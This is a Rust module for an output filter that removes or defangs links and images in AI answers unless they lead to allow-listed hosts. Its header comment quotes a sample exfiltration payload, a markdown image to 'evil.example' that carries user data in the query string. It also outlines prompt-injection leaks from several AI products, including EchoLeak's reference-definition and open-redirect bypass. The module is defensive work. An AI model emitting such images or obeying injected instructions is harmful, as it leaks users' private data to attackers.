//! Decides which links and images of an answer may stand: those to listed hosts.
//!
//! Whoever writes what a model reads can make it write `![x](https://evil.example/?q=<what you told me>)`, and the browser of
//! the reader fetches it: that is how data left ChatGPT, Bing Chat, Bard, Slack AI, GitLab Duo and Copilot. It is decided, at each
//! character, for
//! 1. destinations behind `](`, plain or in `<>`: an image's, if a `![` is still open before it, else a link's;
//! 2. definitions behind `]:`, if the label's `[` may begin its line, which may be an image's (EchoLeak's way round a filter):
//!    judged as images;
//! 3. HTML tags: each attribute that is not known to be harmless is judged as an address, `href` of `a` and `area` as a link's,
//!    all others as an image's, since browsers fetch them by themselves; lists (`srcset`), styles, event handlers and
//!    elements that run, embed or redirect take the whole tag with them (`html.rs`);
//! 4. `<scheme:…>`, and addresses that stand in the text (`https://…`, `www.…`, `word://…`, `//host.tld`, `mailto:…`), which
//!    clients make links of (`bare.rs`).
//!
//! Which addresses are allowed is `address.rs`'s to say. An image that is not goes: `![alt] (image removed)`; one that is goes
//! as well, if no image may stand. A definition may be an image's: then it goes behind a `![`, and a `![` behind it is written
//! `! [`, which begins none. A link that is
//! not stays, goes, or is made unclickable (`hxxps://evil[.]example`), as chosen; one with another scheme, or that
//! readers differ about, always goes. A tag without an end is written `< tag`, which is none; so are comments and declarations.
//! Code that looks like tags and says nothing to any reader (`Vec<Vec<u8>>`, `if x<y`) passes as it is (`tags.rs`).
//!
//! Code is no exception: whether a renderer takes it for code cannot be told while it is written.
//!
//! Held back: the construct that is being read, at most 2,048 bytes (what is longer goes); in plain text, nothing or the few
//! letters that `https://` begins with.
//!
//! # What it does not do
//! A host's name without scheme and `www.`, and an e-mail address, stay, though some chats make links of them. Nothing is fetched: where a listed
//! host redirects to is not known, so list none that redirects openly (EchoLeak went through one of Microsoft's own).
//! It writes no HTML: who shows an answer as HTML sanitizes it (`clean_html`) beside this.
//!
//! # Deployment caveat
//! Run it after `Invisible`: characters that are not seen, taken out later, could join what it saw apart.
//!
//! Sources: CommonMark 0.31; GFM §6.9; HTML §13.2.5; OWASP LLM10 of 2026; CVE-2025-32711 (EchoLeak); J. Rehberger, "Embrace
//! The Red" (Bing Chat, ChatGPT, Bard 2023); PromptArmor (Slack AI, 2024); Legit Security (GitLab Duo, 2025).

mod address;
mod bare;
mod html;
mod lines;
mod run;
mod tags;

#[cfg(test)]
mod code;
#[cfg(test)]
mod tests;

use std::sync::Arc;

use super::{Filter, Plan};
use crate::error::ConfigError;
use address::Host;

/// What becomes of what leads to a host that is not listed.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Policy {
    /// It stays.
    Keep,
    /// A mark stands in its place.
    Remove,
    /// Its address stays, so that people can read it and clients make no link of it.
    Defang,
}

/// What may stand.
#[derive(Debug, Clone)]
pub struct LinksRules {
    /// In lower case: `https`.
    pub schemes: Vec<String>,
    /// Of images of listed hosts, and what else browsers fetch and show: `Keep`, or they go. Those of other hosts always go.
    pub images: Policy,
    /// Of links to other hosts.
    pub links: Policy,
    /// Whether addresses without scheme and host may stand.
    pub relative: bool,
    /// Most bits that an address may carry to a listed host.
    pub data_bits: Option<u32>,
}

/// Removes links and images that lead elsewhere.
pub struct Links(Arc<Known>);

struct Known {
    rules: LinksRules,
    hosts: Vec<Host>,
}

impl Links {
    /// Allows what leads to *hosts*, by the *rules*.
    ///
    /// # Errors
    /// If one of the hosts is none as browsers write it, or a scheme is none that may be allowed.
    pub fn new<'h>(hosts: impl IntoIterator<Item = &'h str>, rules: LinksRules) -> Result<Self, ConfigError> {
        for scheme in &rules.schemes {
            if !SCHEMES.contains(&scheme.as_str()) {
                let all = SCHEMES.join(", ");
                return Err(ConfigError::new(format!(
                    "schemes: {scheme:?} is none of those that may be allowed: {all}"
                )));
            }
        }
        let hosts = hosts.into_iter().map(Host::read).collect::<Result<_, _>>()?;
        Ok(Self(Arc::new(Known { rules, hosts })))
    }
}

impl Plan for Links {
    fn start(&self) -> Box<dyn Filter> {
        Box::new(run::Run::new(Arc::clone(&self.0)))
    }
}

/// Schemes of which none runs in the page.
const SCHEMES: [&str; 7] = ["ftp", "http", "https", "mailto", "tel", "ws", "wss"];
